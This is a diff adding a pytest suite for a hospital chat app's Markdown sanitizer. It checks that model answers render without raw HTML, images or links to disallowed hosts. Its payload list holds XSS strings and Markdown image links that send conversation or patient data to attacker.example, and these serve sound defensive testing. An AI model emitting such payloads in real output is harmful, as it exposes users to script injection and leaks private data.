@@ -1,0 +1,208 @@
+"""Model output is made inert: no raw HTML, no image, links only to the app and allowed hosts."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from markdown_it import MarkdownIt
+
+from chat.web.safe_markdown import escape_text, safe_markdown
+
+ALLOWED = ["intranet.hospital.tw"]
+# Tags that plain Markdown makes; anything else in the rendered page came from raw HTML.
+MARKDOWN_TAGS = {
+    "p", "strong", "em", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br", "a", "s",
+    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
+}  # fmt: skip
+# A worst-case renderer: CommonMark with raw HTML passed through, as an unsafe UI would.
+_RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+# What a GFM renderer (the browser's) would turn into a link by itself, outside code.
+_BARE = re.compile(r"(?:https?|ftp)://|www\.|[A-Za-z0-9._+-]+@[A-Za-z0-9-]+\.[A-Za-z]", re.I)
+
+
+class _Page(HTMLParser):
+    """The tags, attributes and the text outside code of rendered HTML."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.text: list[str] = []
+        self.in_code = 0
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+        self.in_code += tag == "code"
+
+    def handle_endtag(self, tag: str) -> None:
+        self.in_code -= tag == "code"
+
+    def handle_comment(self, data: str) -> None:
+        self.tags.append(("!--", {}))
+
+    def handle_data(self, data: str) -> None:
+        if not self.in_code:
+            self.text.append(data)
+
+
+def assert_inert(markdown: str) -> _Page:
+    """Render the output as an unsafe page would, and check that it stays inert."""
+    page = _Page()
+    page.feed(_RENDERER.render(markdown))
+    for tag, attrs in page.tags:
+        assert tag in MARKDOWN_TAGS, f"raw HTML survived: <{tag}> in {markdown!r}"
+        assert not any(name.startswith("on") or name == "src" for name in attrs), attrs
+        if tag == "a":
+            href = attrs.get("href") or ""
+            assert (
+                href.startswith("/")
+                and not href.startswith("//")
+                or re.match(r"(https?://|mailto:[^@]*@)intranet\.hospital\.tw([/?#]|$)", href)
+            ), f"link to a host that is not allowed: {href}"
+    outside_code = "".join(page.text)
+    bare = [m for m in _BARE.finditer(outside_code) if "intranet.hospital.tw" not in
+            outside_code[m.start() : m.start() + 60]]  # fmt: skip
+    assert not bare, f"a bare URL a GFM renderer would link: {outside_code!r}"
+    return page
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "答案如下 <script>window.__pwned=1</script> [1]",
+    '<img src=x onerror="alert(1)">',
+    "看這張圖 <img src=x onerror=alert(1)>。",
+    "<iframe src=https://attacker.example></iframe>",
+    "<div onmouseover=alert(1)>hover</div>",
+    "<!-- <script>alert(1)</script> -->",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    "<svg/onload=alert(1)>",
+    "<a href='javascript:alert(1)'>click</a>",
+    "<details open ontoggle=alert(1)>",
+    "![x](http://attacker.example/?q=conversation)",
+    "![摘要](https://attacker.example/log?q=病人姓名與病歷號)",
+    '![x](http://attacker.example/a.png "title")',
+    "![x][ref]\n\n[ref]: http://attacker.example/?q=secret",
+    "![x]\n\n[x]: <http://attacker.example/?q=secret>",
+    "[![badge](http://attacker.example/b.svg)](http://attacker.example/)",
+    "![x](data:image/png;base64,iVBORw0KGgo=)",
+    "![x](//attacker.example/p.png)",
+    "[click](javascript:alert(1))",
+    "[click](JaVaScRiPt:alert(1))",
+    "[click](java\tscript:alert(1))",
+    "[click](&#106;avascript:alert(1))",
+    "[click](vbscript:msgbox(1))",
+    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[點這裡](https://attacker.example/login)",
+    "[ok?](https://intranet.hospital.tw.attacker.example/)",
+    "[ok?](https://intranet.hospital.tw@attacker.example/)",
+    "[x](//attacker.example/)",
+    "[x](/\\attacker.example/)",
+    "[x][r]\n\n[r]: https://attacker.example/",
+    "<https://attacker.example/?q=x>",
+    "<javascript:alert(1)>",
+    "<mailto:someone@attacker.example>",
+    "Visit http://attacker.example/?q=x now",
+    "請造訪 www.attacker.example 取得更多資訊",
+    "寫信到 someone@attacker.example",
+    "`code` then ![x](http://attacker.example/)",
+    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | ![x](http://attacker.example/) |",
+    "> quote ![x](http://attacker.example/)\n> <script>alert(1)</script>",
+    "- item ![x](http://attacker.example/)\n- <b onclick=alert(1)>b</b>",
+    "1. 第一步 [x](https://attacker.example/)\n2. 第二步",
+    "**bold ![x](http://attacker.example/)** *em <script>x</script>*",
+    "# Heading <img src=x>",
+    "Setext <img src=x>\n===",
+    "text\\\n<script>alert(1)</script>",
+    "＜script＞alert(1)＜/script＞ ！［x］（http://attacker.example/）",
+]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_hostile_output_renders_inert(hostile: str) -> None:
+    assert_inert(safe_markdown(hostile, ALLOWED))
+
+
+@pytest.mark.parametrize(
+    ("source", "expected"),
+    [
+        ("門診時間為週一至週五 [1]。", "門診時間為週一至週五 \\[1\\]。"),
+        ("**Visiting hours** end at *8 pm* [2].", "**Visiting hours** end at *8 pm* \\[2\\]."),
+        ("- 網路掛號\n- 電話掛號", "- 網路掛號\n- 電話掛號"),
+        ("1. Bring your card\n2. Wait", "1. Bring your card\n2. Wait"),
+        ("Dose: `5 mg`", "Dose: `5 mg`"),
+        ("```python\nprint('<b>')\n```", "```python\nprint('<b>')\n```"),
+        ("> 注意事項", "> 注意事項"),
+        ("3.5 mg\n-5 °C", "3.5 mg\n\\-5 °C"),
+        ("[文件](/kbchat/documents/abc)", "[文件](</kbchat/documents/abc>)"),
+        (
+            "[內網](https://intranet.hospital.tw/a b)",
+            "\\[內網\\]\\(https://intranet.hospital.tw/a b\\)",
+        ),
+        (
+            "[內網](https://intranet.hospital.tw/guide)",
+            "[內網](<https://intranet.hospital.tw/guide>)",
+        ),
+        ("see https://intranet.hospital.tw/x", "see https://intranet.hospital.tw/x"),
+    ],
+)
+def test_ordinary_markdown_keeps_its_formatting(source: str, expected: str) -> None:
+    assert safe_markdown(source, ALLOWED) == expected
+
+
+def test_an_image_becomes_its_alt_text_and_its_url_inert_code() -> None:
+    shown = safe_markdown("![摘要](http://attacker.example/?q=對話)")
+    assert shown == "摘要 (`http://attacker.example/?q=%E5%B0%8D%E8%A9%B1`)"
+    page = assert_inert(shown)
+    assert [tag for tag, _ in page.tags] == ["p", "code"]
+
+
+def test_a_link_elsewhere_keeps_its_text_and_shows_its_url_as_code() -> None:
+    shown = safe_markdown("請見 [掛號說明](https://attacker.example/reg)。")
+    assert shown == "請見 掛號說明 (`https://attacker.example/reg`)。"
+
+
+def test_raw_html_shows_as_the_text_it_is() -> None:
+    shown = safe_markdown("a <script>alert(1)</script> b")
+    page = assert_inert(shown)
+    assert "".join(page.text).strip() == "a <script>alert(1)</script> b"
+
+
+def test_with_no_allowed_hosts_only_relative_links_survive() -> None:
+    shown = safe_markdown("[a](https://intranet.hospital.tw/) [b](/kbchat/x)")
+    assert shown == "a (`https://intranet.hospital.tw/`) [b](</kbchat/x>)"
+
+
+def test_code_keeps_backticks_and_html_as_text() -> None:
+    shown = safe_markdown("``a ` <img src=x onerror=alert(1)>``")
+    page = assert_inert(shown)
+    assert ("code", {}) in page.tags
+    assert shown == "``a ` <img src=x onerror=alert(1)>``"
+
+
+def test_escape_text_shows_markdown_as_itself() -> None:
+    text = "**not bold** [x](y) <b> `c` ![i](j) #h"
+    assert _RENDERER.renderInline(escape_text(text)) == (
+        "**not bold** [x](y) &lt;b&gt; `c` ![i](j) #h"
+    )
+
+
+def test_the_shown_answer_and_its_file_names_are_inert() -> None:
+    from chat.citations import Citation
+    from chat.engine import Answer
+    from chat.web.citations import answer_markdown
+
+    hostile_file = "![x](http:⁄⁄attacker.example)<img src=x onerror=alert(1)>.pdf"
+    citation = Citation(1, hostile_file, 2, "text", "d" * 64, True, "c1")
+    answer = Answer(
+        "探視時間到晚上八點 [1]。![x](http://attacker.example/?q=對話) <script>alert(1)</script>",
+        [citation],
+        "kb-assistant",
+        "model",
+        True,
+    )
+    shown = answer_markdown(answer, "zh-TW", allowed_hosts=())
+    assert_inert(shown)
+    assert shown.startswith("探視時間到晚上八點 \\[1\\]。x (`http://attacker.example/")
+    assert "- [1] --x--http---attacker.example--img src-x onerror-alert-1--.pdf 第 2 頁" in shown
